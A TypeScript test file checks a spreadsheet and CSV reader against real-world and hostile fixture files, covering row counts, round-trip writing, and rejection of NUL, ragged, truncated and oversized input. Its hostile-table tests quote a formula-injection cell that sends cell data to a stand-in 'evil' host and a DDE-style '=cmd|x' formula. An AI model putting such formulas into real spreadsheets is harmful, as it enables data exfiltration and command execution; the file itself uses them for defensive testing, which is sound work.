import { describe, expect, it } from 'vitest';
import { corpusCases } from '../encoding/testing/corpus-cases.ts';
import { guessColumns } from './guess-columns.ts';
import { readTable } from './read-table.ts';
import { toTermRows } from './to-term-rows.ts';
import type { Table } from './types.ts';
import { writeCsv } from './write-csv.ts';
import { writeXlsx } from './write-xlsx.ts';

function allRows({ format, sheets, rows }: Table) {
  return format === 'xlsx' ? sheets.flatMap((sheet) => sheet.rows) : rows;
}

/** Cells without trailing empty ones, which a workbook does not store. */
function cellsOf({ rows }: Table): string[][] {
  return rows.map(({ cells }) => cells.slice(0, cells.findLastIndex((cell) => cell !== '') + 1));
}

const files = corpusCases('CSV, TSV and XLSX', /^(csv|xlsx)\//);

describe.skipIf(files.length === 0)('reading real-world tables', () => {
  it.each(files)('reads every row of $path', async ({ path, bytes, units, exercises }) => {
    const table = await readTable(bytes, { file_name: path });
    expect(allRows(table)).toHaveLength(units ?? -1);
    const delimiter = /delim='(.+?)'/.exec(exercises)?.[1]?.replace('\\t', '\t');
    expect(table.delimiter).toBe(delimiter ?? null);
    const sheets = /sheets=(\d+)/.exec(exercises)?.[1];
    expect(table.sheets).toHaveLength(Number(sheets ?? 0));
    expect(table.encoding_guessed).toBe(exercises.includes('enc-guess'));
  });

  it.each(files)(
    'reads every row of $path as a term or a heading, or rejects it with a reason',
    async ({ path, bytes }) => {
      const table = await readTable(bytes, { file_name: path });
      const mapping = guessColumns(table.rows);
      const { rows, refused } = toTermRows(table, mapping);
      const reported = refused.filter(({ reason }) => reason !== 'blank_row').length;
      expect(rows.length + reported + mapping.header_rows).toBe(table.rows.length);
    },
  );

  it.each(files)('reads $path back the same after writing', async ({ path, bytes }) => {
    const table = await readTable(bytes, { file_name: path });
    const rows = cellsOf(table);
    expect(cellsOf(await readTable(writeXlsx(rows)))).toEqual(rows);
    for (const delimiter of [',', '\t'] as const) {
      const back = await readTable(writeCsv(rows, { delimiter }), { delimiter, isOurs: () => true });
      expect(cellsOf(back)).toEqual(rows);
    }
  });
});

const bad = corpusCases('bad tables', /^bad\/(csv|xls)/);
const named = (name: string) => bad.find(({ path }) => path.endsWith(name))?.bytes ?? new Uint8Array();
const terms = async (name: string) => {
  const table = await readTable(named(name));
  return toTermRows(table, guessColumns(table.rows));
};

describe.skipIf(bad.length === 0)('reading hostile tables', () => {
  it('stores formulas as written, neutralises them on export, and restores them on import', async () => {
    const { rows } = await terms('csv-formula-injection.csv');
    expect(rows).toHaveLength(4);
    const cells = rows.map(({ source, target, comment }) => [source, target, comment ?? '']);
    expect(cells[0]?.[0]).toBe('=HYPERLINK("http://evil/?x="&A1)');
    expect(Buffer.from(writeCsv(cells)).toString()).not.toMatch(/(^|,)"?[=+\-@]/m);
    expect(cellsOf(await readTable(writeCsv(cells), { isOurs: () => true }))).toEqual(cells);
    expect(cellsOf(await readTable(writeXlsx(cells)))).toEqual(cells);
  });

  it.each([
    ['csv-huge-cell.csv', 'cell_too_large'],
    ['xls-ole2-renamed.xlsx', 'legacy_or_encrypted'],
    ['xlsx-truncated.xlsx', 'damaged_zip'],
  ])('rejects %s with %s', async (name, code) => {
    await expect(readTable(named(name))).rejects.toMatchObject({ code });
  });

  it('rejects a row with NUL', async () => {
    expect(await terms('csv-nul.csv')).toMatchObject({
      rows: [],
      refused: [{ line: 2, reason: 'control_character' }],
    });
  });

  it('reports ragged rows by line', async () => {
    const { rows, refused } = await terms('csv-ragged.csv');
    expect(rows).toEqual([]);
    expect(refused.map(({ line }) => line)).toEqual([2, 3, 4]);
  });

  it.each([
    ['xlsx-minimal-good.xlsx', [['term', 'b']]],
    ['xlsx-zip-slip.xlsx', [['t', 'b']]],
    ['xlsx-formula-cells.xlsx', [['2', '=cmd|x']]],
    ['xlsx-sparse-huge-ref.xlsx', [['x']]],
  ])('returns the cells of %s', async (name, cells) => {
    expect(cellsOf(await readTable(named(name)))).toEqual(cells);
  });
});
